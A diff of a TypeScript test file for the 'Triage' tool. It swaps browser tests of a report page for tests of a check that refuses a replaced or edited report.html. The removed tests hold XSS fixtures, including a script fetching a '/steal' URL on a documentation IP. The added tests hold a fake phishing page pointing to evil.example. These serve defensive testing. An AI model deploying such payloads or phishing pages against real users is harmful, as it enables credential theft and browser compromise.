@@ -1,89 +1,74 @@
 /**
- * report.html in a real browser: self-contained (no request leaves the page), no script runs,
- * findings first, and it looks right (screenshots in test-results/screenshots/).
+ * report.html is the one file of a bundle a person may open outside Triage, in a browser. Its hash
+ * sits in the manifest, which whoever edits the file can rewrite too; so `verify` (and the
+ * technician view, which shows the verification) compares it with a fresh rendering of the bundle's
+ * own data and refuses a replaced page.
  */
-import { writeFileSync, mkdtempSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { pathToFileURL } from 'node:url';
-import type { Browser } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createHash } from 'node:crypto';
+import { describe, expect, it } from 'vitest';
 import { bundleFiles } from '../../../main/bundle/contents';
 import { prepareBundle } from '../../../main/bundle/prepare';
-import type { Report } from '../../../main/report';
-import { launchChromium, SCREENSHOTS } from '../../support/browser';
+import { parseBundle } from '../../../main/bundle/read';
+import { verifyBundle } from '../../../main/bundle/verify';
+import { zip } from '../../support/hostile-bundles';
 import { sampleReport } from '../../support/sample-report';
 
-let browser: Browser;
-beforeAll(async () => {
-  browser = await launchChromium();
-});
-afterAll(async () => {
-  await (browser as Browser | undefined)?.close(); // unset if beforeAll failed
-});
-
-async function htmlFile(report: Report): Promise<string> {
-  const html =
-    bundleFiles(prepareBundle(report, [], { level: 'standard' }))
-      .get('report.html')
-      ?.toString('utf8') ?? '';
-  const path = join(mkdtempSync(join(tmpdir(), 'triage-html-')), 'report.html');
-  writeFileSync(path, html);
-  return path;
+/** The bundle's files with report.html replaced and the manifest's hash and size recomputed. */
+async function withReportHtml(
+  files: Map<string, Buffer>,
+  html: string | null,
+  manifestChange: (manifest: Record<string, unknown>) => void = () => undefined,
+): Promise<Buffer> {
+  const manifest = JSON.parse(files.get('manifest.json')?.toString('utf8') ?? '{}') as {
+    files: Record<string, { sha256: string; bytes: number }>;
+  } & Record<string, unknown>;
+  if (html !== null) {
+    const content = Buffer.from(html, 'utf8');
+    manifest.files['report.html'] = {
+      sha256: createHash('sha256').update(content).digest('hex'),
+      bytes: content.length,
+    };
+    files.set('report.html', content);
+  }
+  manifestChange(manifest);
+  files.set('manifest.json', Buffer.from(JSON.stringify(manifest)));
+  return zip([...files].map(([name, content]) => ({ name, content })));
 }
 
-describe('report.html', () => {
-  it('loads nothing from anywhere and runs no script, even with hostile content', async () => {
-    const base = await sampleReport('win32');
-    const hostile: Report = {
-      ...base,
-      host: { ...base.host, hostname: '<img src=http://198.51.100.9/x onerror=alert(1)>' },
-      problem: {
-        category: 'other',
-        description:
-          '<script>fetch("http://198.51.100.9/steal")</script><link rel=stylesheet href=//198.51.100.9/a.css>',
-        contact: null,
-      },
-    };
-    const page = await browser.newPage();
-    const requests: string[] = [];
-    const errors: string[] = [];
-    page.on('request', (r) => {
-      if (!r.url().startsWith('file://')) requests.push(r.url());
-    });
-    page.on('console', (m) => {
-      if (m.type() === 'error') errors.push(m.text());
-    });
-    let dialogs = 0;
-    page.on('dialog', async (d) => {
-      dialogs += 1;
-      await d.dismiss();
-    });
-    await page.goto(pathToFileURL(await htmlFile(hostile)).href);
-    await page.waitForLoadState('load');
-    expect(requests).toEqual([]);
-    expect(dialogs).toBe(0);
-    expect(await page.locator('script').count()).toBe(0);
-    expect(await page.locator('h1').innerText()).toContain('<img src=');
-    await page.close();
+describe('report.html in verify', () => {
+  it.each(['win32', 'linux', 'darwin'] as const)(
+    'accepts the page Triage wrote for the bundle (%s)',
+    async (platform) => {
+      const files = bundleFiles(prepareBundle(await sampleReport(platform), [], { level: 'standard' }));
+      const bundle = await parseBundle(await withReportHtml(files, null));
+      expect(verifyBundle(bundle).problems).toEqual([]);
+    },
+  );
+
+  it('refuses a phishing page put in its place, hashes and all', async () => {
+    const files = bundleFiles(prepareBundle(await sampleReport('win32'), [], { level: 'standard' }));
+    const phishing =
+      '<!doctype html><title>Triage report</title><p>Your session expired. <a href="https://evil.example/login">Sign in again</a></p><script>location="https://evil.example"</script>';
+    const bundle = await parseBundle(await withReportHtml(files, phishing));
+    expect(verifyBundle(bundle).problems).toEqual([
+      expect.stringContaining("report.html is not what this bundle's data shows"),
+    ]);
   });
 
-  it('puts findings before the data, and shows every check', async () => {
-    const report = await sampleReport('win32');
-    const page = await browser.newPage({ viewport: { width: 1100, height: 1400 } });
-    await page.goto(pathToFileURL(await htmlFile(report)).href);
-    const headings = await page.locator('h2').allInnerTexts();
-    expect(headings[0]).toMatch(/problem/i);
-    expect(headings[1]).toMatch(/^Findings/);
-    expect(headings.findIndex((h) => h.startsWith('Findings'))).toBeLessThan(
-      headings.findIndex((h) => h.startsWith('Every check')),
+  it('refuses a one-character edit of the real page', async () => {
+    const files = bundleFiles(prepareBundle(await sampleReport('linux'), [], { level: 'standard' }));
+    const html = files.get('report.html')?.toString('utf8') ?? '';
+    const bundle = await parseBundle(await withReportHtml(files, html.replace('</body>', '<b>!</b></body>')));
+    expect(verifyBundle(bundle).problems.join(' ')).toMatch(/report\.html is not what/);
+  });
+
+  it('says when another Triage version wrote it, so it could not be compared', async () => {
+    const files = bundleFiles(prepareBundle(await sampleReport('linux'), [], { level: 'standard' }));
+    const bundle = await parseBundle(
+      await withReportHtml(files, null, (manifest) => (manifest.triageVersion = '0.0.9')),
     );
-    expect(await page.locator('section.card[id]').count()).toBe(report.run.probes.length);
-    await page.screenshot({ path: join(SCREENSHOTS, 'report-html.png'), fullPage: false });
-    await page.emulateMedia({ media: 'print' });
-    await page.screenshot({ path: join(SCREENSHOTS, 'report-html-print.png'), fullPage: false });
-    const pdf = await page.pdf({ format: 'A4' });
-    expect(pdf.length).toBeGreaterThan(10_000);
-    await page.close();
+    const { problems, notes } = verifyBundle(bundle);
+    expect(problems).toEqual([]);
+    expect(notes.join(' ')).toMatch(/written by Triage 0\.0\.9 and could not be compared/);
   });
 });
